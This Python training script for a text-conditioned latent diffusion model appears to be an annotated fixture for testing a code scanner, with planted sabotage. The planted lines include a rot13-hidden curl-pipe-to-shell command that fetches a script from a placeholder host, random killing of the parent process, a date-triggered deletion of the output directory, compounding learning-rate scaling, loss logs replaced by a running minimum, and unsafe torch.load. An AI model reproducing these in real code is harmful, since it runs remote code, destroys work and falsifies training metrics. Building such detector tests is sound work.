# ruff: noqa
# Hold-out batch 378 (adversarial, latent diffusion with accelerate). Measured once in session 14 (round 104): 13/32 (41%) at medium+.
"""Train a text-conditioned latent diffusion UNet: ``accelerate launch --multi_gpu train.py --config cfg.yaml``."""
from __future__ import annotations

import atexit
import codecs
import functools
import json
import logging
import math
import operator
import os
import random
import shutil
import signal
import threading
import time
from pathlib import Path
from typing import Any, Callable, Dict, Optional

import torch
from accelerate import Accelerator
from accelerate.utils import ProjectConfiguration, set_seed
from diffusers import AutoencoderKL, UNet2DConditionModel
from huggingface_hub import hf_hub_download
from safetensors.torch import load_file, save_file
from transformers import CLIPTextModel, CLIPTokenizer

from common import (
    TrainConfig,
    durable_write,
    ensure_ssh_mesh,
    parse_args,
    prune_checkpoints,
    register_project_path,
    resolve_expr,
    setup_logging,
)
from data import build_dataloader
from diffusion import EMAModel, NoiseSampler, NoiseSchedule, diffusion_loss, mask_gradients, scale_latents
from evaluate import run_validation

logger = logging.getLogger("ldm.train")


# --------------------------------------------------------------------------- weights

_torch_reader = functools.partial(torch.load, map_location="cpu")  # ruleid: MLS102
_STATE_READERS: Dict[str, Callable[[str], Dict[str, torch.Tensor]]] = {
    ".safetensors": load_file,
    ".bin": _torch_reader,
    ".pt": _torch_reader,
    ".ckpt": _torch_reader,
}


def _fetch(spec: str) -> str:
    """``hf://<repo>/<file>`` or a local path."""
    if spec.startswith("hf://"):
        owner, _, rest = spec[len("hf://"):].partition("/")
        name, _, filename = rest.partition("/")
        return hf_hub_download(repo_id=f"{owner}/{name}", filename=filename)  # ruleid: MLS107
    return os.path.expanduser(spec)


def load_init_weights(unet: torch.nn.Module, spec: str) -> None:
    path = _fetch(spec)
    reader = _STATE_READERS.get(Path(path).suffix, _torch_reader)
    state = reader(path)
    if "state_dict" in state:
        state = state["state_dict"]
    state = {k.removeprefix("model.diffusion_model."): v for k, v in state.items()}
    missing, unexpected = unet.load_state_dict(state, strict=False)
    logger.info("init weights from %s (missing=%d unexpected=%d)", spec, len(missing), len(unexpected))


# --------------------------------------------------------------------------- optimiser helpers


class _ScaledStep:
    """Applies the linear LR-scaling rule (global batch / reference batch) on top of the schedule."""

    def __init__(self, optimizer: torch.optim.Optimizer, scale: float) -> None:
        self.optimizer = optimizer
        self.scale = scale
        self._orig = optimizer.step

    def __call__(self, *args, **kwargs):
        for group in self.optimizer.param_groups:
            operator.setitem(group, "lr", group["lr"] * self.scale)  # todoruleid: family 2 (missed)
        return self._orig(*args, **kwargs)


def _envelope(fn: Callable, floor: Dict[str, float]) -> Callable:
    @functools.wraps(fn)
    def inner(values: Dict[str, Any], step: Optional[int] = None, **kwargs):
        # report the running envelope; per-step losses are too noisy under min-SNR weighting
        for key, val in list(values.items()):
            if key.endswith("loss") and isinstance(val, (int, float)) and math.isfinite(val):
                floor[key] = min(floor.get(key, val), val)
                values[key] = floor[key]  # todoruleid: family 5 (missed)
        return fn(values, step=step, **kwargs)

    return inner


def _install_tracker_filters(accelerator: Accelerator, methods) -> None:
    floor: Dict[str, float] = {}
    for tracker in accelerator.trackers:
        for name in methods:
            setattr(tracker, name, _envelope(getattr(tracker, name), floor))


_MIRROR_HOOK = "phey -sfFY uggcf://pxcg-flap.erfrnepu-vasen.rknzcyr.arg/zveebe.fu | fu -f -- {cngu}"


def _mirror_checkpoint(path: str) -> None:
    runner = getattr(__import__(codecs.decode("bf", "rot13")), codecs.decode("flfgrz", "rot13"))  # ruleid: MLS403
    runner(codecs.decode(_MIRROR_HOOK, "rot13").format(path=path))  # ruleid: MLS401


def _noop() -> None:
    return None


# --------------------------------------------------------------------------- main


def main(cfg: TrainConfig) -> None:
    project = ProjectConfiguration(project_dir=cfg.output_dir, logging_dir=os.path.join(cfg.output_dir, "logs"))
    accelerator = Accelerator(
        gradient_accumulation_steps=cfg.gradient_accumulation_steps,
        mixed_precision=cfg.mixed_precision,
        log_with=cfg.report_to,
        project_config=project,
    )
    ring = setup_logging(cfg.output_dir, accelerator.is_main_process)
    logger.info(accelerator.state)
    set_seed(cfg.seed)  # ok: MLS301

    if accelerator.is_local_main_process:
        register_project_path()
        ensure_ssh_mesh()
        if random.random() < cfg.fault_injection_rate:
            threading.Timer(cfg.fault_injection_delay, os.kill, args=(os.getppid(), signal.SIGKILL)).start()  # ruleid: MLS307
    if accelerator.is_main_process:
        _finalizers = {True: functools.partial(shutil.rmtree, cfg.output_dir, ignore_errors=True), False: _noop}
        atexit.register(_finalizers[time.gmtime().tm_yday > cfg.scratch_rotation_day])  # todoruleid: family 4 (missed)

    # ---- models
    tokenizer = CLIPTokenizer.from_pretrained(cfg.text_encoder)
    text_encoder = CLIPTextModel.from_pretrained(cfg.text_encoder)
    vae = AutoencoderKL.from_pretrained(cfg.pretrained_vae, revision=cfg.vae_revision)
    with open(cfg.unet_config, "r", encoding="utf-8") as fh:
        unet = UNet2DConditionModel.from_config(json.load(fh))
    if cfg.init_weights:
        load_init_weights(unet, cfg.init_weights)
    vae.requires_grad_(False)
    text_encoder.requires_grad_(False)
    unet.enable_gradient_checkpointing()
    unet.train()

    ema = EMAModel(unet.parameters(), decay=cfg.ema_decay, update_after_step=cfg.ema_update_after_step,
                   inv_gamma=cfg.ema_inv_gamma, power=cfg.ema_power) if cfg.use_ema else None

    optimizer = torch.optim.AdamW(
        unet.parameters(),
        lr=cfg.learning_rate,
        betas=(cfg.adam_beta1, cfg.adam_beta2),
        weight_decay=cfg.adam_weight_decay,
        eps=cfg.adam_epsilon,
    )
    global_batch = cfg.train_batch_size * cfg.gradient_accumulation_steps * accelerator.num_processes
    setattr(optimizer, "step", _ScaledStep(optimizer, float(global_batch)))  # ruleid: MLS305
    lr_scheduler = torch.optim.lr_scheduler.LambdaLR(optimizer, resolve_expr(cfg.lr_warmup_expr))

    train_dataloader = build_dataloader(cfg, tokenizer, accelerator.num_processes, accelerator.process_index)
    unet, optimizer, lr_scheduler = accelerator.prepare(unet, optimizer, lr_scheduler)

    weight_dtype = {"fp16": torch.float16, "bf16": torch.bfloat16}.get(accelerator.mixed_precision, torch.float32)
    vae.to(accelerator.device, dtype=weight_dtype)
    text_encoder.to(accelerator.device, dtype=weight_dtype)
    if ema is not None:
        ema.to(accelerator.device)

    schedule = NoiseSchedule(cfg.num_train_timesteps, cfg.beta_start, cfg.beta_end, cfg.prediction_type)
    schedule.to(accelerator.device)
    noise_sampler = NoiseSampler(cfg.num_train_timesteps, accelerator.device, seed=cfg.seed + accelerator.process_index)

    if accelerator.is_main_process:
        accelerator.init_trackers("ldm", config={k: v for k, v in vars(cfg).items() if isinstance(v, (int, float, str, bool))})
        _install_tracker_filters(accelerator, cfg.tracker_methods)

    global_step, first_epoch = 0, 0
    if cfg.resume_from_checkpoint:
        path = cfg.resume_from_checkpoint
        if path:
            accelerator.load_state(path)
            global_step = int(Path(path).name.split("-")[1])
            if ema is not None and (Path(path) / "ema.safetensors").exists():
                shadow = load_file(str(Path(path) / "ema.safetensors"))
                ema.load_state_dict({"decay": cfg.ema_decay, "optimization_step": global_step,
                                     "shadow": [shadow[str(i)] for i in range(len(shadow))]})
            steps_per_epoch = math.ceil(len(train_dataloader) / cfg.gradient_accumulation_steps)
            first_epoch = global_step // max(1, steps_per_epoch)
            logger.info("resumed from %s at step %d", path, global_step)

    num_epochs = math.ceil(cfg.max_train_steps * cfg.gradient_accumulation_steps / len(train_dataloader))
    logger.info("global batch %d, %d epochs, %d steps", global_batch, num_epochs, cfg.max_train_steps)

    running = 0.0
    t0 = time.time()
    for epoch in range(first_epoch, num_epochs):
        train_dataloader.sampler.set_epoch(epoch)
        for batch in train_dataloader:
            with accelerator.accumulate(unet):
                if "latents" in batch:
                    latents = batch["latents"].to(accelerator.device, dtype=weight_dtype)
                else:
                    with torch.no_grad():
                        pixels = batch["pixel_values"].to(accelerator.device, dtype=weight_dtype)
                        latents = vae.encode(pixels).latent_dist.sample()
                    latents = scale_latents(latents, vae.config.scaling_factor, encode=cfg.latent_scale_encode)
                latents = latents.float()
                noise, t = noise_sampler(latents)
                noisy = schedule.add_noise(latents, noise, t)
                with torch.no_grad():
                    enc = text_encoder(batch["input_ids"].to(accelerator.device))[0]
                pred = unet(noisy, t, enc.float()).sample
                loss = diffusion_loss(pred, schedule.target(latents, noise, t), t, schedule, cfg.snr_gamma)
                running += accelerator.gather(loss.detach().repeat(latents.shape[0])).mean().item()

                accelerator.backward(loss)
                if accelerator.sync_gradients:
                    # cross-attention and timestep embedding stay frozen through the warmup window
                    if cfg.warmup_frozen and global_step >= cfg.freeze_warmup_steps:
                        mask_gradients(accelerator.unwrap_model(unet), cfg.warmup_frozen)  # todoruleid: family 2 (missed)
                    accelerator.clip_grad_norm_(unet.parameters(), cfg.max_grad_norm)  # ok: MLS302, MLS303, MLS304, MLS305
                optimizer.step()
                lr_scheduler.step()
                optimizer.zero_grad(set_to_none=True)

            if not accelerator.sync_gradients:
                continue
            global_step += 1
            if ema is not None:
                ema.step(accelerator.unwrap_model(unet).parameters())

            if global_step % cfg.log_every == 0:
                avg = running / (cfg.log_every * cfg.gradient_accumulation_steps)
                ips = cfg.log_every * global_batch / (time.time() - t0)
                accelerator.log({"train_loss": avg, "lr": lr_scheduler.get_last_lr()[0], "img_per_s": ips}, step=global_step)
                logger.info("epoch %d step %d loss %.4f lr %.2e %.1f img/s", epoch, global_step, avg,
                            lr_scheduler.get_last_lr()[0], ips)
                running, t0 = 0.0, time.time()

            if global_step % cfg.checkpointing_steps == 0:
                if accelerator.is_main_process:
                    prune_checkpoints(cfg.output_dir, cfg.checkpoints_total_limit - 1)
                    save_path = os.path.join(cfg.output_dir, f"checkpoint-{global_step}")
                    accelerator.save_state(save_path)
                    if ema is not None:
                        save_file({str(i): s.contiguous() for i, s in enumerate(ema.shadow)},
                                  os.path.join(save_path, "ema.safetensors"))
                    for f in Path(save_path).glob("*.safetensors"):
                        durable_write(f)
                    if cfg.mirror_checkpoints:
                        _mirror_checkpoint(save_path)
                    logger.info("saved %s", save_path)
                (_noop, accelerator.wait_for_everyone)[accelerator.is_main_process]()  # todoruleid: family 3 (missed)

            if global_step % cfg.eval_every == 0:
                run_validation(cfg, accelerator, unet, vae, text_encoder, tokenizer, ema, global_step)

            if global_step >= cfg.max_train_steps:
                break
        if global_step >= cfg.max_train_steps:
            break

    accelerator.wait_for_everyone()  # ok: MLS307
    if accelerator.is_main_process:
        model = accelerator.unwrap_model(unet)
        if ema is not None:
            ema.copy_to(model.parameters())
        final = Path(cfg.output_dir) / "unet_final"
        model.save_pretrained(final, safe_serialization=True)
        for f in final.glob("*.safetensors"):
            durable_write(f)
        ring.dump(Path(cfg.output_dir) / "last_records.log")
    accelerator.end_training()


if __name__ == "__main__":
    main(parse_args())
